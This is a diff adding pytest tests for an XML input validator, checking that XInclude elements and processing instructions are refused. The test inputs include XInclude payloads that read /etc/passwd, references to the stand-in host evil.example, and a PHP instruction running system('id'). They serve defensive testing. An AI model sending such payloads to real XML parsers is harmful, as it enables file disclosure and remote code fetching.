@@ -146,6 +146,48 @@ def test_doctype_without_entities_is_refused_too() -> None:
     )
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'<o xmlns:xi="http://www.w3.org/2001/XInclude">'
+        b'<xi:include href="file:///etc/passwd" parse="text"/></o>',
+        b'<o><include xmlns="http://www.w3.org/2001/XInclude" href="http://evil.example/x"/></o>',
+        b'<o xmlns:xi="http://www.w3.org/2003/XInclude"><xi:include href="/etc/passwd"/></o>',
+        b'<o xmlns:xi="http://www.w3.org/2001/XInclude"><xi:fallback/></o>',
+    ],
+)
+def test_xinclude_elements_are_refused(body: bytes) -> None:
+    """An XInclude element is an external reference an upstream processor would fetch (was 200)."""
+    refused = refusal(body)
+    assert refused.code == "xml-refused"
+    assert "passwd" not in refused.detail
+    assert "evil" not in refused.detail
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><o/>',
+        b'<o><?php system("id"); ?></o>',
+        b"<o/><?anything at the end?>",
+    ],
+)
+def test_processing_instructions_are_refused(body: bytes) -> None:
+    """``xml-stylesheet`` (an XSLT fetched and run) and every other PI: refused (was 200)."""
+    refused = refusal(body)
+    assert refused.code == "xml-refused"
+    assert "evil" not in refused.detail
+
+
+def test_the_xml_declaration_and_other_namespaces_still_pass() -> None:
+    """The declaration is no processing instruction; a namespace merely named like one passes."""
+    body = (
+        b'<?xml version="1.0" encoding="UTF-8"?>'
+        b'<o xmlns:x="http://example.com/XInclude"><x:include href="a"/></o>'
+    )
+    assert parse_xml(body, XmlPolicy()).tag == "o"
+
+
 def test_depth_bomb_is_refused_while_parsing() -> None:
     """100 000 nested elements stop at the depth cap with 400 too-deep."""
     body = b"<a>" * 100_000 + b"</a>" * 100_000
